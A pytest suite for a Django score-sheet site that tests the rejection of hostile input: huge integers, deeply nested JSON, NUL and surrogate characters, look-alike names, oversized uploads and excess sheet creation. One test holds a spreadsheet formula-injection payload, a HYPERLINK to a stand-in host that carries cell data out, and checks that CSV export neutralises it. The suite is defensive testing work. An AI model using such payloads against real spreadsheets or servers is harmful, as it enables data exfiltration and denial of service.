"""What a client may send a score sheet that it must refuse with a clear word, never a 500:
huge numbers, deep nesting, text no database keeps, names that only look different, a pasted
file too large, a format version that does not exist; HEAD like GET; formula injection in
the CSV; sheets started too fast; sheets nobody uses any more."""

import csv
import io
import json
import re
from datetime import timedelta
from html import unescape

import pytest
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from games.scoresheet import serialize
from games.scoresheet.models import Change, Deal, Game, Player
from tests.conftest import read_body
from tests.scoresheet.sheet_factory import HANDS_4, make_game, post_deal

pytestmark = pytest.mark.django_db

PEEL_DEAL = {"dealer": 0, "stood": 1, "bought": [0, 1, 0, 2], "mode": "hands", "hands": HANDS_4}


@pytest.fixture
def client():
    return Client()


def text(response):
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", response.content.decode()))


def exported(client, **players):
    game = make_game("peel-new")
    post_deal(client, game, PEEL_DEAL)
    return json.loads(read_body(client.get(f"/sheet/{game.token}/export.json")))


def imported(client, body):
    return client.post("/sheet/import/", {"text": body})


# --- The import -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "where",
    [
        lambda d, big: d.replace('"stake": "1"', f'"stake": {big}'),
        lambda d, big: d.replace('"dealer": 0', f'"dealer": {big}'),
        lambda d, big: d.replace('"finished": false', f'"finished": false, "x": [{big}]'),
    ],
)
def test_an_integer_of_thousands_of_digits_anywhere_is_refused(client, where):
    body = where(json.dumps(exported(client)), "9" * 5000)
    response = imported(client, body)
    assert response.status_code == 400
    assert "a number has more than 4,300 digits" in text(response)


def test_json_nested_ten_thousand_deep_is_refused(client):
    deep = "[" * 10_000 + "]" * 10_000
    for body in (
        deep,
        json.dumps(exported(client)).replace('"options": {', f'"x": {deep}, "options": {{'),
    ):
        response = imported(client, body)
        assert response.status_code == 400
        assert "nests too deeply" in text(response) or "nested deeper" in text(response)
    shallow_but_deeper_than_a_sheet = json.dumps({**exported(client), "x": [[[[[[[[[1]]]]]]]]]})
    response = imported(client, shallow_but_deeper_than_a_sheet)
    assert response.status_code == 400
    assert "x[0][0][0][0][0][0][0][0]: nested deeper than any sheet" in text(response)


def test_a_lone_surrogate_in_a_name_is_refused(client):
    body = json.dumps(exported(client)).replace('"Ann"', '"Ann\\ud800"', 1)
    response = imported(client, body)
    assert response.status_code == 400
    assert "players[0]: holds half of a surrogate pair" in text(response)
    assert Game.objects.count() == 1  # only the sheet exported


@pytest.mark.parametrize("field", ["players", "title"])
def test_a_nul_in_a_name_or_title_is_refused_on_import(client, field):
    data = exported(client)
    if field == "players":
        data["players"][0] = "Ann\x00"
    else:
        data["title"] = "Friday\x00"
    response = imported(client, json.dumps(data))
    assert response.status_code == 400
    assert "holds a NUL character" in text(response)


@pytest.mark.parametrize(
    ("field", "value"), [("players", "Ann\x00\nBob\nCy"), ("title", "Friday\x00")]
)
def test_a_nul_in_a_name_or_title_is_refused_on_start(client, field, value):
    fields = {"rules": "peel-old", "players": "Ann\nBob\nCy", "stake": "1", "title": ""}
    response = client.post("/sheet/", {**fields, field: value})
    assert response.status_code == 400
    assert "Null characters are not allowed" in text(response)  # Django's form field says so
    assert Game.objects.count() == 0


@pytest.mark.parametrize("version", ["true", "1.0", '"1"', "0", "3", "null"])
def test_only_the_format_versions_that_exist_are_read(client, version):
    body = json.dumps(exported(client)).replace(
        '"format_version": 1', f'"format_version": {version}'
    )
    response = imported(client, body)
    assert response.status_code == 400
    assert "format_version: this site reads versions 1 and 2 (whole numbers)" in text(response)


def test_a_file_exported_before_running_states_still_imports(client):
    # An export as the site wrote it before version 2 existed (issue 9), kept byte for byte.
    old = (
        '{"format": "rulesite-scoresheet", "format_version": 1, "title": "Friday",'
        ' "rules": "peel-new", "rules_label": "Peel\'s new game",'
        ' "players": ["Ann", "Bob", "Cy", "Dee"], "stake": "1/2",'
        ' "options": {"pack": "52", "limited": "none", "flush_ties": "highest-card",'
        ' "short_pack_ace_low": "no", "exact_ties": "share", "stander_pays": "each",'
        ' "dealer_penalty": "none", "tie_dealer_stake": "each", "extended": "false",'
        ' "same_dealer": "false"}, "finished": false,'
        ' "entries": [{"kind": "deal", "dealer": 0, "stood": 1, "bought": [0, 1, 0, 2],'
        ' "mode": "hands", "hands": [["AS", "KS", "QS"], ["2H", "2D", "7C"], ["9C", "8D", "4H"],'
        ' ["3C", "5D", "JH"]]}],'
        ' "totals": {"Ann": "7/2", "Bob": "-3/2", "Cy": "-1/2", "Dee": "-3/2"}}'
    )
    response = imported(client, old)
    assert response.status_code == 303, text(response)[:2000]
    game = Game.objects.get(title="Friday")
    again = json.loads(read_body(client.get(f"/sheet/{game.token}/export.json")))
    assert again["format_version"] == 1
    assert again["totals"] == json.loads(old)["totals"]


def test_a_paste_larger_than_two_megabytes_says_so(client):
    response = client.post("/sheet/import/", {"text": "x" * 2_000_001})
    assert response.status_code == 400
    body = text(response)
    assert "larger than 2 MB" in body and "2,000,001 characters" in body
    assert "Choose a JSON file" not in body


def test_seats_round_trip_through_a_file_of_version_2(client):
    game = make_game("peel-old", players=["Ann", "Bob", "Cy"])
    client.post(f"/sheet/{game.token}/seats/", {"name": "Eve", "version": 1, "key": "k" * 16})
    data = json.loads(read_body(client.get(f"/sheet/{game.token}/export.json")))
    assert data["format_version"] == 2
    assert data["players"] == ["Ann", "Bob", "Cy", "Eve"]
    assert data["entries"] == [{"kind": "join", "player": 3}]
    response = imported(client, json.dumps(data))
    assert response.status_code == 303
    copy = Game.objects.exclude(pk=game.pk).get()
    assert list(copy.players.values_list("name", "late")) == [
        ("Ann", False),
        ("Bob", False),
        ("Cy", False),
        ("Eve", True),
    ]
    data["format_version"] = 1
    response = imported(client, json.dumps(data))
    assert "a join needs format_version 2" in text(response)


# --- Names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "players",
    ["Ann\nAnn\u200b\nCy", "Ann\n\u0410nn\nCy", "Ann\n\u202eAnn\nCy", "Ann\nANN\nCy"],
)
def test_names_that_only_look_different_are_one_player(client, players):
    response = client.post(
        "/sheet/", {"rules": "peel-old", "players": players, "stake": "1", "title": ""}
    )
    assert response.status_code == 400
    body = text(response)
    assert "written twice" in body or "looks the same as Ann" in body


def test_a_late_player_who_looks_like_another_is_refused(client):
    game = make_game("peel-old", players=["Ann", "Bob", "Cy"])
    response = client.post(
        f"/sheet/{game.token}/seats/", {"name": "B\u043eb", "version": 1, "key": "k" * 16}
    )
    assert response.status_code == 400
    assert "looks the same as Bob" in text(response)
    assert Player.objects.filter(game=game).count() == 3


# --- HEAD, CSV ---------------------------------------------------------------------------------


def test_head_on_a_deal_page_answers_like_get(client):
    game = make_game("peel-new")
    post_deal(client, game, PEEL_DEAL)
    url = f"/sheet/{game.token}/deals/1/"
    got, head = client.get(url), client.head(url)
    assert got.status_code == head.status_code == 200
    assert head["Content-Type"] == got["Content-Type"] and head.content == b""


FORMULA = '=HYPERLINK("http://x.example/?"&A1,"ok")'


@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-2+3", "@SUM(A1)"])
def test_a_name_that_is_a_formula_exports_as_text(client, name):
    game = make_game("peel-new", players=[name, "Bob", "Cy", "Dee"])
    post_deal(client, game, PEEL_DEAL)
    game.title = name
    game.save()
    rows = list(
        csv.reader(
            io.StringIO(
                read_body(client.get(f"/sheet/{game.token}/export.csv")).decode("utf-8-sig")
            )
        )
    )
    head, first = rows[0], rows[1]
    assert head[3] == f"'{name}: hand"
    assert first[1] == f"'{name}"  # the dealer
    assert first[2] == f"'{name}"  # the winner
    cells = [cell for row in rows for cell in row]
    assert not any(c[:1] in ("=", "+", "@") for c in cells)
    # amounts stay numbers
    assert first[4:7] == ["0", "7", "7"]  # bought, net, total
    assert "-3" in first


def test_csv_text_neutralises_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert serialize.csv_text(start + "x") == "'" + start + "x"
    assert serialize.csv_text("Ann") == "Ann"


# --- How many sheets, and for how long ------------------------------------------------------------


START = {"rules": "peel-old", "players": "Ann\nBob\nCy", "stake": "1", "title": ""}


def test_starting_sheets_is_limited_per_client(client, settings):
    settings.SHEET_CREATE_RATE = "2/60"
    for _ in range(2):
        assert client.post("/sheet/", START).status_code == 303
    response = client.post("/sheet/", START)
    assert response.status_code == 429
    assert int(response["Retry-After"]) >= 1
    body = text(response)
    assert "Too many sheets at once" in body and "2 score sheets in the last 60 seconds" in body
    assert Game.objects.count() == 2
    # an import counts too; another address is not held up
    assert imported(client, json.dumps(exported(Client()))).status_code == 429
    other = Client(REMOTE_ADDR="192.0.2.7")
    assert other.post("/sheet/", START).status_code == 303
    # a form with a mistake is not counted
    settings.SHEET_CREATE_RATE = "1/60"
    third = Client(REMOTE_ADDR="192.0.2.8")
    assert third.post("/sheet/", {**START, "players": "Ann"}).status_code == 400
    assert third.post("/sheet/", START).status_code == 303
    settings.SHEET_CREATE_RATE = "0"
    assert client.post("/sheet/", START).status_code == 303


def test_prune_removes_only_sheets_unchanged_for_the_days_given(client):
    old, recent = make_game("peel-new"), make_game("peel-new")
    post_deal(client, old, PEEL_DEAL)
    Game.objects.filter(pk=old.pk).update(updated_at=timezone.now() - timedelta(days=40))
    out = io.StringIO()
    call_command("prune_sheets", "--days", "30", "--dry-run", stdout=out)
    assert "1 sheet(s)" in out.getvalue() and Game.objects.count() == 2
    call_command("prune_sheets", "--days", "30", stdout=out)
    assert list(Game.objects.all()) == [recent]
    assert not Deal.objects.filter(game_id=old.pk).exists()
    assert not Change.objects.filter(game_id=old.pk).exists()
    # recording touches a sheet
    post_deal(client, recent, PEEL_DEAL)
    recent.refresh_from_db()
    assert recent.updated_at > timezone.now() - timedelta(minutes=1)


def test_an_import_over_the_rate_is_refused_before_it_is_read(client, settings, monkeypatch):
    """The limit spares the server the parse and the replay of every deal (issue 22, item 7)."""
    settings.SHEET_CREATE_RATE = "1/60"
    assert imported(client, json.dumps(exported(Client()))).status_code == 303
    read: list[str] = []
    original = serialize.import_sheet

    def reading(text: str) -> serialize.Imported:
        read.append(text)
        return original(text)

    monkeypatch.setattr(serialize, "import_sheet", reading)
    response = imported(client, json.dumps(exported(Client())))
    assert response.status_code == 429
    assert read == []


def test_a_huge_upload_is_refused_before_it_is_read(client):
    """A body declared far over the 2 MB an import takes: 413 without reading it (a file
    upload is otherwise streamed to disk in full first)."""
    response = client.post(
        "/sheet/import/",
        {"file": io.BytesIO(b"{}")},
        CONTENT_LENGTH=str(200_000_000),
    )
    assert response.status_code == 413
    assert "larger than 2 MB" in text(response)


@pytest.mark.parametrize(
    ("prefix", "words"),
    [
        ("", ["larger than 2 MB (200,000,000 bytes; at most 2,000,000)", "None of what was sent"]),
        ("/sv", ["större än 2 MB (200 000 000 byte; högst 2 000 000)", "Inget av det"]),
    ],
)
def test_the_413_page_says_the_limit_and_that_nothing_sent_could_be_kept(
    monkeypatch, prefix, words
):
    """The body is not read, not even for the form's CSRF token, which Django's middleware
    looked for in the form before the view (it then read a 200 MB upload in full and
    answered a bare "Bad Request (400)"). A paste kept in the form, refused before it is
    sent, is the browser's test (tests/browser/test_sheet_import_browser.py)."""
    from django.core.handlers.wsgi import WSGIRequest

    client = Client(enforce_csrf_checks=True)
    form = client.get(f"{prefix}/sheet/import/").content.decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', form)[1]

    def unread(self):
        raise AssertionError("the body was read")

    monkeypatch.setattr(WSGIRequest, "body", property(unread))
    monkeypatch.setattr(WSGIRequest, "_load_post_and_files", unread)
    response = client.post(
        f"{prefix}/sheet/import/",
        {"csrfmiddlewaretoken": token, "file": io.BytesIO(b"{}")},
        CONTENT_LENGTH=str(200_000_000),
    )
    assert response.status_code == 413
    page = text(response).replace("\u00a0", " ")
    for said in words:
        assert said in page, page
    html = response.content.decode()
    assert 'name="text"' in html and "/static/js/import.js" in html
    assert 'data-max="2000000"' in html and "{size}" in html


@pytest.mark.parametrize(
    ("prefix", "words"),
    [
        ("", ["text sent is larger than 2 MB (at most 2,000,000 bytes)", "None of what was sent"]),
        ("/sv", ["skickade texten är större än 2 MB (högst 2 000 000 byte)", "Inget av det"]),
    ],
)
def test_a_body_sent_without_its_length_is_refused_without_a_size(settings, prefix, words):
    """A body sent chunked, with no Content-Length (an ASGI server passes it on so, spooled
    to a file; under WSGI Django reads none of it), found over DATA_UPLOAD_MAX_MEMORY_SIZE
    only as the form is parsed: the 413 page says the limit, not a size nobody said (it
    said "0 bytes")."""
    import tempfile

    from django.core.handlers.asgi import ASGIRequest
    from django.core.handlers.base import BaseHandler

    client = Client(enforce_csrf_checks=True)
    form = client.get(f"{prefix}/sheet/import/").content.decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', form)[1]
    cookies = "; ".join(f"{c.key}={c.coded_value}" for c in client.cookies.values())
    scope = {
        "type": "http",
        "method": "POST",
        "path": f"{prefix}/sheet/import/",
        "query_string": b"",
        "scheme": "http",
        "server": ("testserver", 80),
        "client": ("127.0.0.1", 0),
        "headers": [
            (b"host", b"testserver"),
            (b"content-type", b"application/x-www-form-urlencoded"),
            (b"cookie", cookies.encode()),
        ],
    }
    handler = BaseHandler()
    handler.load_middleware()
    with tempfile.SpooledTemporaryFile() as body:  # as ASGIHandler.read_body spools it
        body.write(f"csrfmiddlewaretoken={token}&text=".encode())
        body.write(b"x" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE)
        body.seek(0)
        response = handler.get_response(ASGIRequest(scope, body))
    assert response.status_code == 413
    page = text(response).replace("\u00a0", " ")
    for said in words:
        assert said in page, page
    assert not re.search(r"\(0 (bytes|byte)\b", page), page


def test_an_import_still_needs_the_forms_csrf_token():
    client = Client(enforce_csrf_checks=True)
    text_sent = json.dumps(exported(Client()))
    assert client.post("/sheet/import/", {"text": text_sent}).status_code == 403
    form = client.get("/sheet/import/").content.decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', form)[1]
    response = client.post("/sheet/import/", {"csrfmiddlewaretoken": token, "text": text_sent})
    assert response.status_code == 303
    big = {"csrfmiddlewaretoken": token, "text": "x" * 3_000_000}
    assert client.post("/sheet/import/", big).status_code == 413


def test_the_429_page_keeps_what_was_typed_to_send_again(client, settings):
    settings.SHEET_CREATE_RATE = "1/60"
    typed = {**START, "title": "Fredag hos Cy", "players": "Ann\nBob\nCy Ö"}
    assert client.post("/sheet/", typed).status_code == 303
    refused = client.post("/sheet/", typed)
    assert refused.status_code == 429
    page = refused.content.decode()
    assert 'value="Fredag hos Cy"' in page and "Cy Ö" in page
    assert "Try again with what you typed" in page
    settings.SHEET_CREATE_RATE = "0"
    again = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', page))
    again.pop("csrfmiddlewaretoken", None)
    assert client.post("/sheet/", {k: unescape(v) for k, v in again.items()}).status_code == 303
    assert Game.objects.filter(title="Fredag hos Cy").count() == 2
